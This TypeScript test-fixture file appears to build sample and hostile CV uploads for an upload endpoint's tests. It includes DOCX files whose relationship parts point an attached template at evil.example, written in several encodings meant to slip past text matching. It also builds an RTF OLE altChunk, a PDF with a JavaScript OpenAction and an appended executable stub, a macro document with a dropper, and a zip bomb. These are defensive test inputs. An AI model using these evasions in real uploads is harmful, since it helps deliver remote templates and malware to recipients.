import { writeZip, type ZipPart } from './zipWriter';

/*
 * Files for the application tests: a real one-page PDF, a real DOCX, and the
 * hostile uploads the endpoint must refuse.
 */

/** A valid, minimal one-page PDF with one line of text ("Ana Horvat, CV"; a certificate's name). */
export function samplePdf(text = 'Ana Horvat, CV'): Buffer {
  return pdfWith({ text });
}

/**
 * A one-page PDF written object by object: `catalog` adds entries to the catalogue (object 1), and
 * `objects` are numbered from 6 on, after the page's own five.
 */
export function pdfWith({
  text = 'Ana Horvat, CV',
  catalog = '',
  objects: extra = [],
}: { text?: string; catalog?: string; objects?: string[] } = {}): Buffer {
  const stream = `BT /F1 18 Tf 72 770 Td (${text.replace(/[()\\]/g, '')}) Tj ET`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...extra,
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(body.length);
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  body += offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

const wordParts: ZipPart[] = [
  {
    name: '[Content_Types].xml',
    data:
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
      '<Default Extension="xml" ContentType="application/xml"/>' +
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
      '</Types>',
  },
  {
    name: '_rels/.rels',
    data:
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
      '</Relationships>',
  },
  {
    name: 'word/document.xml',
    data:
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
      '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
      '<w:body><w:p><w:r><w:t>Ana Horvat, CV</w:t></w:r></w:p></w:body></w:document>',
  },
];

/** A real, minimal Word document (DOCX) with one line of text, plus further parts (or others in place of its own). */
export function sampleDocx(...extra: ZipPart[]): Buffer {
  const replaced = new Set(extra.map((part) => part.name));
  return writeZip([...wordParts.filter((part) => !replaced.has(part.name)), ...extra]);
}

const relationshipsNamespace = 'http://schemas.openxmlformats.org/package/2006/relationships';
const relationshipType = (type: string) =>
  `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}`;

/**
 * The hostile files that text matching let through to HR (issue 38), each as Word reads it: a
 * `.rels` part in UTF-16 with an external template; `TargetMode="&#69;xternal"` (a character
 * reference); a prefixed `<pr:Relationship>` with an external template; an RTF with an OLE object
 * imported through `altChunk`; and a PDF that runs JavaScript on opening with a program appended.
 */
export const craftedCvs = {
  utf16Relationships: (): Buffer =>
    sampleDocx({
      name: 'word/_rels/settings.xml.rels',
      data: Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from(
          '<?xml version="1.0" encoding="UTF-16" standalone="yes"?>' +
            `<Relationships xmlns="${relationshipsNamespace}">` +
            `<Relationship Id="rId1" Type="${relationshipType('attachedTemplate')}" Target="http://evil.example/t.dotm" TargetMode="External"/>` +
            '</Relationships>',
          'utf16le',
        ),
      ]),
    }),
  characterReferenceTargetMode: (): Buffer =>
    sampleDocx({
      name: 'word/_rels/settings.xml.rels',
      data:
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
        `<Relationships xmlns="${relationshipsNamespace}">` +
        `<Relationship Id="rId1" Type="${relationshipType('attachedTemplate')}" Target="http://evil.example/t.dotm" TargetMode="&#69;xternal"/>` +
        '</Relationships>',
    }),
  prefixedRelationship: (): Buffer =>
    sampleDocx({
      name: 'word/_rels/settings.xml.rels',
      data:
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
        `<pr:Relationships xmlns:pr="${relationshipsNamespace}">` +
        `<pr:Relationship Id="rId1" Type="${relationshipType('attachedTemplate')}" Target="\\\\evil.example\\share\\t.dotm" TargetMode="External"/>` +
        '</pr:Relationships>',
    }),
  altChunkRtf: (): Buffer =>
    sampleDocx(
      {
        name: 'word/document.xml',
        data:
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
          '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
          '<w:body><w:p><w:r><w:t>Ana Horvat, CV</w:t></w:r></w:p><w:altChunk r:id="rId9"/></w:body></w:document>',
      },
      {
        name: 'word/_rels/document.xml.rels',
        data:
          `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="${relationshipsNamespace}">` +
          `<Relationship Id="rId9" Type="${relationshipType('aFChunk')}" Target="chunk.dat"/></Relationships>`,
      },
      // Named .dat, so that only the relationship and the element tell what it is.
      {
        name: 'word/chunk.dat',
        data: `{\\rtf1{\\object\\objemb{\\*\\objdata 01050000020000000b0000005061636b61676500000000000000000000}}}`,
      },
    ),
  javascriptPdf: (): Buffer =>
    Buffer.concat([
      pdfWith({
        catalog: '/OpenAction 6 0 R ',
        objects: ['<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>'],
      }),
      windowsExecutable(),
    ]),
};

/** A Word document carrying a VBA project and a program beside it (a .docm renamed, plus a dropper). */
export function macroDocx(): Buffer {
  return sampleDocx(
    { name: 'word/vbaProject.bin', data: Buffer.concat([oleSignature, Buffer.alloc(512, 1)]) },
    { name: 'payload.exe', data: windowsExecutable() },
  );
}

/** A Word document of about 50 kB whose picture unpacks to 50 MB. */
export function docxBomb(): Buffer {
  return sampleDocx({ name: 'word/media/image1.png', data: Buffer.alloc(50 * 1024 * 1024) });
}

const oleSignature = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);

/** A Windows executable's header: the classic upload renamed to cv.pdf. */
export function windowsExecutable(): Buffer {
  return Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00', 'latin1'), Buffer.alloc(256, 0x41)]);
}

/** A ZIP that is not a Word document (an archive someone renamed to .docx). */
export function plainZip(): Buffer {
  return Buffer.concat([
    Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00]),
    Buffer.from('setup.exe', 'latin1'),
  ]);
}
